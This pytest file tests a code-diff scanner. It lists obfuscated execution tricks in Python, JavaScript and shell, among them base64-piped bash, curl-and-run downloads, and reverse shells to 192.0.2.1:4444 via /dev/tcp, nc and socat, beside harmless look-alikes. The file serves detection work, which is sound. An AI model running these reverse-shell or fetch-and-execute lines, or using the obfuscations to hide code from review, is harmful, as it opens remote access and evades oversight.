"""Ways to hide what a change runs, each found, and harmless code beside each, which is not."""

from collections import defaultdict
from pathlib import Path

import pytest

from tests.diffchecks.patterns.test_pattern_files import look

NAME, DECODED, RUN = "python-hidden-name", "python-decoded-code", "python-exec"
VALUE, LIST = "python-runner-value", "python-shell-list"
FLAG, SH_SAVED = "python-shell-flag", "shell-foreign-script"
JS_VALUE, SH_DECODED, SH_REVERSE = "js-eval-value", "shell-decoded-script", "shell-reverse-shell"

DISGUISED = {
    "a.py": [
        ("getattr(os, 'system')(x)", NAME),
        ("getattr(os, 'metsys'[::-1])(x)", NAME),
        ("getattr(m, 'e' + 'v' + 'al')(x)", NAME),
        ("getattr(m, ''.join(['sys', 'tem']))(x)", NAME),
        ("getattr(m, chr(101) + chr(118))(x)", NAME),
        ("getattr(m, base64.b64decode('c3lzdGVt').decode())(x)", NAME),
        ("__import__('os').system(x)", NAME),
        ("importlib.import_module('subprocess').run(x)", NAME),
        ("__builtins__['eval'](x)", NAME),
        ("vars(os)['system'](x)", NAME),
        ("globals()['__builtins__'].__dict__['ev' + 'al'](x)", NAME),
        ("@exec\n@read\nclass A:\n    pass", VALUE),
        ("ctypes.CDLL(None).system(x)", NAME),
        ("exec(zlib.decompress(base64.b64decode('eJw=')))", DECODED),
        ("exec(marshal.loads(data))", DECODED),
        ("exec(bytes.fromhex('7072').decode())", DECODED),
        ("eval(codecs.decode('cevag', 'rot13'))", DECODED),
        ("exec(urllib.request.urlopen(url).read())", DECODED),
        ("exec(f'import {x}')", RUN),
        ("run = eval", VALUE),
        ("functools.partial(os.system, x)()", VALUE),
        ("HANDLERS = {'run': os.popen}", VALUE),
        ("subprocess.run(['/bin/bash', '-c', 'ls ' + x])", LIST),
        ("subprocess.run(['/usr/bin/env', 'sh', '-ec', 'ls {}'.format(x)])", LIST),
        ("S = True\ndef f(x):\n    subprocess.run('ls ' + x, shell=S)", FLAG),
        ("subprocess.check_output(f'ls {x}', **{'shell': True})", FLAG),
    ],
    "a.js": [
        ("const run = eval;", JS_VALUE),
        ("texts.then(eval);", JS_VALUE),
        ("(0, eval)(x);", JS_VALUE),
        ("window['eval'](x);", JS_VALUE),
        ("globalThis['ev' + 'al'](x);", JS_VALUE),
    ],
    "a.ts": [("(eval as any)(x);", JS_VALUE)],
    "a.sh": [
        ("echo Y3VybCBo | base64 --decode | bash", SH_DECODED),
        ('eval "$(echo Y3VybCBo | base64 -d)"', SH_DECODED),
        ("bash <(echo 6375 | xxd -r -p)", SH_DECODED),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", SH_REVERSE),
        ("nc -e /bin/sh 192.0.2.1 4444", SH_REVERSE),
        ("socat TCP:192.0.2.1:4444 EXEC:/bin/bash", SH_REVERSE),
        ("curl -so /tmp/x https://example.com/x\nsh /tmp/x", SH_SAVED),
        ('curl https://example.com/x -o "$D/x.sh" && bash -e "$D/x.sh"', SH_SAVED),
        (
            "if a; then\n wget \\\n -O x.py https://example.com/x\n sudo python3 ./x.py\nfi",
            SH_SAVED,
        ),
        ("curl -fsSLO https://example.com/x.sh\nsh x.sh", SH_SAVED),
        ("wget -q https://example.com/x && chmod +x x && ./x", SH_SAVED),
        ("curl https://example.com/x > y\nbash y", SH_SAVED),
        ("sha256sum z; curl -o x https://example.com/x; bash x", SH_SAVED),
        ("curl -sSf https://sh.rustup.rs | sh", "shell-remote-script"),
        ("curl -o x http://example.com/x; . ./x", "shell-plain-http-script"),
    ],
}
HARMLESS = {
    "b.py": [
        "getattr(os, 'getuid')()",
        "getattr(self, 'on_' + name)()",
        "getattr(self, 'run')()",
        "__import__('os').getcwd()",
        "importlib.import_module('os.path').join(x)",
        "vars(options)['run']",
        "exec(open('version.py').read(), names)",
        "exec(Path('version.py').read_text(), names)",
        "exec('import this')",
        "exec(compile(tree, name, 'exec'), names)",
        "model.eval()",
        "os.system('ls')",
        "subprocess.run(['sh', '-c', 'ls | wc'])",
        "subprocess.run(['sh', '-c', 'ls ' + shlex.quote(x)])",
        "subprocess.run(['bash', '-c', command])",
        "S = False\nsubprocess.run(x, shell=S)",
        "S = True\nsubprocess.run('ls | wc', shell=S)",
        "subprocess.run(x, **{'text': True})",
    ],
    "b.js": [
        "const kind = typeof eval;",
        "const root = (0, eval)('this');",
        "model.eval(x);",
        "window['ev' + name](x);",
    ],
    "b.sh": [
        'echo "$KEY" | base64 -d > key.pem',
        "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
        "nc -z localhost 5432",
        'sh -c "base64 file"',
        'curl -so x https://example.com/x\necho "$SUM  x" | sha256sum -c\nsh x',
        "curl -O https://example.com/x.csv\nsh y.sh x.csv",
        "wget -q https://example.com/x\nverify_checksum x\nchmod +x x && ./x",
        "curl -so x.tgz https://example.com/x.tgz\ntar xf x.tgz\nsh build.sh",
        "# curl -so x https://example.com/x\nsh x",
    ],
}


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    """Line → codes; each line is a program of its own."""
    lines = {
        f"{n}{path}": line
        for path, programs in (DISGUISED | HARMLESS).items()
        for n, line in enumerate(programs)
    }
    texts = {path: line if isinstance(line, str) else line[0] for path, line in lines.items()}
    reply = look(tmp_path_factory.mktemp("programs"), texts)
    assert not reply.gaps
    codes: dict[str, set[str]] = defaultdict(set)
    for finding in reply.findings:
        codes[texts[finding.path]].add(finding.code)
    return codes


@pytest.mark.parametrize("path", DISGUISED)
def test_a_disguise_is_found(found: dict[str, set[str]], path: str) -> None:
    missed = [line for line, code in DISGUISED[path] if code not in found[line]]
    assert not missed


@pytest.mark.parametrize("path", HARMLESS)
def test_what_only_looks_like_a_disguise_is_not(found: dict[str, set[str]], path: str) -> None:
    disguises = {code for lines in DISGUISED.values() for _, code in lines}
    assert not [line for line in HARMLESS[path] if not disguises.isdisjoint(found[line])]


def test_text_that_another_function_decodes_is_not_what_is_run(tmp_path: Path) -> None:
    program = "def a(x):\n    code = bytes.fromhex(x)\n\ndef b(code):\n    exec(code)\n"
    near = program.replace("\n\ndef b(code):", "")
    reply = look(tmp_path, {"a.py": program, "b.py": near})
    assert [(f.path, f.code) for f in reply.findings if f.code == DECODED] == [("b.py", DECODED)]
